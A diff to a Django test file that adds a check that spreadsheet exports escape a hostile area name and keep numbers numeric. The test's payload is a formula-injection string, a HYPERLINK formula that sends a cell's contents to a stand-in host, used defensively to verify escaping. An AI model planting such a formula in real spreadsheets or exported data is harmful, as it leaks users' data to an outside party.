@@ -4,6 +4,7 @@ same figures; leaders only see their own area."""
 
 import io
 import subprocess
+from decimal import Decimal
 
 import pytest
 from django.db.models import Sum
@@ -12,7 +13,8 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from jobs.models import JobPosting
-from stats import services, tasks
+from portal.models import OrgUnit
+from stats import reports, services, tasks
 from stats.models import ClosedPeriod, Report
 from stats.periods import Period
 from tests import factories
@@ -71,6 +73,25 @@ def test_a_leader_makes_a_monthly_report_whose_figures_match_the_registries(
     assert leader.notifications.filter(url=report.get_absolute_url()).exists()
     download = reverse("stats:report_download", args=[report.code, "pdf"])
     assert client.get(download)["Content-Type"] == "application/pdf"
+
+
+def test_the_spreadsheet_shows_a_hostile_area_name_as_text_and_keeps_numbers(
+    foshan, market
+):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    OrgUnit.objects.filter(pk=foshan["chancheng"].pk).update(name=hostile)
+    context = reports.report_context(
+        foshan["city"], Period.containing("month", timezone.localdate())
+    )
+    context["key_rows"][0][1]["mom"] = Decimal("-12.50")
+    book = load_workbook(io.BytesIO(reports.xlsx(context)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    [area] = [cell for cell in cells if hostile in str(cell.value)]
+    assert area.value == "'" + hostile
+    [key_figures, *_sheets] = book
+    [_unit, _heading, ratio, *_rows] = key_figures.iter_rows()
+    assert ratio[2].data_type == "n" and ratio[2].value == -12.5
 
 
 def test_a_closed_periods_report_rebuilds_with_the_same_figures(
